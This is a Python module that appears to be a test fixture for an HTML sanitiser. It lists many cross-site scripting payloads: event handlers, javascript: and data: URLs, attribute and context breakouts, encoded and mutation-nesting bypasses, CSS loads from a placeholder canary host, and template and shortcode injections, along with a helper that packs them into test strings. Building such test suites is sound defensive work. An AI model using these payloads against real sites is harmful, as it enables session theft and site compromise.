"""Texts that run something, or put something foreign into a page, where nobody escapes them.

What runs calls `xss(1)` or `alert(1)`, or asks for something at CANARY. Elements and attributes that are put
in carry MARK in their name, so that they are found also where nothing runs.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = "x5s"
CANARY = "//canary.example/"

TAGS = (
    "<script x5s>xss(1)</script>",
    "<SCRIPT x5s>alert(1)</SCRIPT>",
    "<script x5s src=//canary.example/a.js></script>",
    "<script x5s\n>xss(1)</script\n>",
    "<script/x5s>xss(1)</script>",
    '<script x5s type="module">xss(1)</script>',
    "<script x5s>fetch('//canary.example/f')</script>",
    "<img x5s src=x onerror=xss(1)>",
    "<img/x5s/src=x/onerror=xss(1)>",
    "<IMG x5s SRC=x OnErRoR=alert(1)>",
    "<img x5s src=x:x onerror=alert`1`>",
    '<img x5s src="x" onerror="xss(1)" alt=">">',
    "<image x5s src=x onerror=xss(1)>",
    "<body x5s onload=xss(1)>",
    "<iframe x5s src=javascript:parent.xss(1)></iframe>",
    '<iframe x5s srcdoc="<script>parent.xss(1)</script>"></iframe>',
    "<iframe x5s src=//canary.example/frame></iframe>",
    '<object x5s data="javascript:xss(1)"></object>',
    '<object x5s data="//canary.example/o" type="text/html"></object>',
    '<embed x5s src="//canary.example/e">',
    "<video x5s><source x5s onerror=xss(1)></video>",
    "<video x5s src=x onerror=xss(1)></video>",
    "<audio x5s src=x onerror=xss(1)></audio>",
    "<input x5s autofocus onfocus=xss(1)>",
    "<textarea x5s autofocus onfocus=xss(1)></textarea>",
    "<select x5s autofocus onfocus=xss(1)></select>",
    "<button x5s autofocus onfocus=xss(1)>b</button>",
    "<details x5s open ontoggle=xss(1)><summary>s</summary></details>",
    "<marquee x5s onstart=xss(1)>m</marquee>",
    '<link x5s rel=stylesheet href="//canary.example/l.css">',
    '<meta x5s http-equiv="refresh" content="0;url=//canary.example/m">',
    '<base x5s href="//canary.example/">',
    '<form x5s action="javascript:xss(1)"><input type=submit></form>',
    '<form x5s><button x5s formaction="javascript:xss(1)">f</button></form>',
    "<isindex x5s type=image src=x onerror=xss(1)>",
    "<keygen x5s autofocus onfocus=xss(1)>",
    "<x5s-element onclick=xss(1)>custom</x5s-element>",
    '<div x5s tabindex=0 onfocus="xss(1)" autofocus>d</div>',
    '<p x5s style="animation:x" onanimationstart="xss(1)">a</p>',
    "<template x5s><img x5s src=x onerror=xss(1)></template>",
    "<dialog x5s open onclose=xss(1)><form method=dialog><button>b</button></form></dialog>",
    "<table x5s background=javascript:xss(1)><tr><td x5s>t</td></tr></table>",
)
SVG_AND_MATH = (
    "<svg x5s onload=xss(1)>",
    "<svg/x5s/onload=xss(1)>",
    "<svg x5s><script x5s>xss(1)</script></svg>",
    "<svg x5s><script x5s>xss&#40;1&#41;</script></svg>",
    "<svg x5s><a x5s xlink:href=javascript:xss(1)><text>t</text></a></svg>",
    "<svg x5s><animate x5s onbegin=xss(1) attributeName=x dur=1s></svg>",
    "<svg x5s><set x5s attributeName=onmouseover to=xss(1)></svg>",
    "<svg x5s><a x5s><animate x5s attributeName=href values=javascript:xss(1) /></a></svg>",
    "<svg x5s><foreignObject x5s><img x5s src=x onerror=xss(1)></foreignObject></svg>",
    '<svg x5s><use x5s href="data:image/svg+xml,<svg id=x onload=xss(1)/>#x"></use></svg>',
    "<svg x5s><image x5s href=x onerror=xss(1)></svg>",
    "<svg x5s><style x5s>*{background:url(//canary.example/svg)}</style></svg>",
    "<math x5s><a x5s xlink:href=javascript:xss(1)>m</a></math>",
    '<math x5s href="javascript:xss(1)">m</math>',
    '<math x5s><maction x5s actiontype="statusline" xlink:href="javascript:xss(1)">m</maction></math>',
)
ATTRIBUTES = (
    '" x5s onmouseover="xss(1)',
    "' x5s onmouseover='xss(1)",
    '" x5s autofocus onfocus=xss(1) a="',
    "' x5s autofocus onfocus=xss(1) a='",
    " x5s onmouseover=xss(1) ",
    "` x5s onmouseover=xss(1)",
    '"><img x5s src=x onerror=xss(1)>',
    "'><img x5s src=x onerror=xss(1)>",
    '"/><svg x5s onload=xss(1)>',
    "'/x5s/onmouseover=xss(1)//",
    '"x5s="',
    '" x5s style="background:url(//canary.example/style)" a="',
    '" x5s srcdoc="<script>xss(1)</script>" a="',
    "\" x5s src='x' onerror='alert(1)",
    '">\n<img x5s\nsrc=x\nonerror=xss(1)>',
    '"\tx5s\tonpointerenter="xss(1)',
    '"\x0bx5s\x0conmouseover="xss(1)',
)
ADDRESSES = (
    "javascript:xss(1)",
    "JaVaScRiPt:xss(1)",
    " javascript:xss(1)",
    "java\tscript:xss(1)",
    "java\nscript:xss(1)",
    "java\rscript:xss(1)",
    "\x01javascript:xss(1)",
    "javascript://%0axss(1)",
    "javascript:alert(1)//https://example.com",
    "javascript&colon;xss(1)",
    "&#106;avascript:xss(1)",
    "&#x6A&#x61&#x76&#x61script:xss(1)",
    "javascript:/*--></script></title></style>--><img x5s src=x onerror=xss(1)>*/",
    "vbscript:xss(1)",
    "data:text/html,<script>xss(1)</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=xss(1)>",
    '<a x5s href="javascript:xss(1)">a</a>',
    '<a x5s href="jav&#x09;ascript:xss(1)">a</a>',
    '<area x5s href="javascript:xss(1)">',
    "[link](javascript:xss(1))",
    "[link](<javascript:xss(1)>)",
    "[link](data:text/html,<script>xss(1)</script>)",
    "<javascript:xss(1)>",
)
ENDS_OF_TEXT = (
    "</script><script x5s>xss(1)</script>",
    "</title><img x5s src=x onerror=xss(1)>",
    "</textarea><img x5s src=x onerror=xss(1)>",
    "</style><img x5s src=x onerror=xss(1)>",
    "</noscript><img x5s src=x onerror=xss(1)>",
    "</option></select><img x5s src=x onerror=xss(1)>",
    "--><img x5s src=x onerror=xss(1)>",
    "--!><img x5s src=x onerror=xss(1)>",
    "]]><img x5s src=x onerror=xss(1)>",
    "<!--><img x5s src=x onerror=xss(1)>-->",
    "<![CDATA[<img x5s src=x onerror=xss(1)>]]>",
    "<?xml ><img x5s src=x onerror=xss(1)> ?>",
    '";xss(1);"',
    "';xss(1);'",
    "\\';xss(1);//",
    '\\";xss(1);//',
    '"-xss(1)-"',
    "'-xss(1)-'",
    "`;xss(1);`",
    "${xss(1)}",
    "\u2028xss(1)//",
)
ENCODED = (
    "&lt;img x5s src=x onerror=xss(1)&gt;",
    "&#60;img x5s src=x onerror=xss(1)&#62;",
    "&#x3c;script x5s&#x3e;xss(1)&#x3c;/script&#x3e;",
    "&amp;lt;img x5s src=x onerror=xss(1)&amp;gt;",
    "%3Cimg%20x5s%20src%3Dx%20onerror%3Dxss(1)%3E",
    "%253Cimg%2520x5s%2520src%253Dx%2520onerror%253Dxss(1)%253E",
    "\\u003cimg x5s src=x onerror=xss(1)\\u003e",
    "\\x3cimg x5s src=x onerror=xss(1)\\x3e",
    "\uff1cimg x5s src=x onerror=xss(1)\uff1e",
    "\ufe64img x5s src=x onerror=xss(1)\ufe65",
    "<\u200bimg x5s src=x onerror=xss(1)><img x5s src=x onerror=xss(1)>",
    "+ADw-img x5s src=x onerror=xss(1)+AD4-<img x5s src=x onerror=xss(1)>",
    "<\x00img x5s src=x onerror=xss(1)>".replace("\x00", "\ufffd") + "<img x5s src=x onerror=xss(1)>",
    "\u202e<img x5s src=x onerror=xss(1)>\u202c",
)
BROKEN_NESTING = (
    "<img x5s src=x onerror=xss(1)//",
    "<<script x5s>xss(1)//<</script>",
    "<scr<script>ipt x5s>xss(1)</scr</script>ipt>",
    "<img x5s src=x onerror=xss(1)",
    '<img x5s """><script x5s>xss(1)</script>">',
    "<a x5s><b><p></a><img x5s src=x onerror=xss(1)></b>",
    "<table x5s><a x5s><table><svg x5s onload=xss(1)>",
    "<p x5s><style><!--</style><img x5s src=x onerror=xss(1)>--></style>",
    "<svg x5s></p><style><a id='</style><img x5s src=1 onerror=xss(1)>'>",
    "<math x5s><mtext><table><mglyph><style><!--</style><img title='--><img x5s src=1 onerror=xss(1)>'>",
    "<noscript><p title='</noscript><img x5s src=x onerror=xss(1)>'>",
    "<form x5s><math><mtext></form><form><mglyph><style></math><img x5s src onerror=xss(1)>",
    "<select x5s><template><style><!--</style><a rel='--><img x5s src=x onerror=xss(1)>'>",
    "<xmp x5s><img title='</xmp><img x5s src=x onerror=xss(1)>'>",
    "<svg x5s><title><style><img x5s src=x onerror=xss(1)></style></title></svg>",
    "<details x5s><svg><desc><img x5s src=x onerror=xss(1)></desc></svg>",
)
STYLES = (
    "<style x5s>*{background:url(//canary.example/s)}</style>",
    "<style x5s>@import '//canary.example/i.css';</style>",
    '<p x5s style="background:url(//canary.example/p)">p</p>',
    '<p x5s style="background:u\\rl(//canary.example/p)">p</p>',
    "background:url(//canary.example/css)",
    "}*{background:url(//canary.example/css)}",
    "x;list-style-image:url('//canary.example/li')",
)
TEMPLATES = (
    "{{constructor.constructor('xss(1)')()}}",
    "{{7*7}}[[7*7]]<%= 7*7 %>#{7*7}",
    "<!-- wp:html --><img x5s src=x onerror=xss(1)><!-- /wp:html -->",
    '<!-- wp:group {"className":"\\u0022 x5s onmouseover=\\u0022xss(1)"} --><p>p</p><!-- /wp:group -->',
    '[caption width="1" caption="<img x5s src=x onerror=xss(1)>"]c[/caption]',
    '[gallery ids="1" columns=\'" x5s onmouseover="xss(1)\']<img x5s src=x onerror=xss(1)>',
    '[embed]javascript:xss(1)//"><img x5s src=x onerror=xss(1)>[/embed]',
    "[audio src='x\" x5s onerror=xss(1) a=\"']<img x5s src=x onerror=xss(1)>",
)
ONLY_SHOWN = frozenset(TEMPLATES[:2]) | {"\u2028xss(1)//"}
"""They run in templates and scripts that take text for code; others show them as they are."""

PAYLOADS = (
    *TAGS,
    *SVG_AND_MATH,
    *ATTRIBUTES,
    *ADDRESSES,
    *ENDS_OF_TEXT,
    *ENCODED,
    *BROKEN_NESTING,
    *STYLES,
    *TEMPLATES,
)


def packed(max_length: int, payloads: tuple[str, ...] = PAYLOADS) -> Iterator[str]:
    """Every payload once, as many in a text as fit in."""
    text = ""
    for payload in payloads:
        if text and len(text) + 1 + len(payload) > max_length:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
    yield text
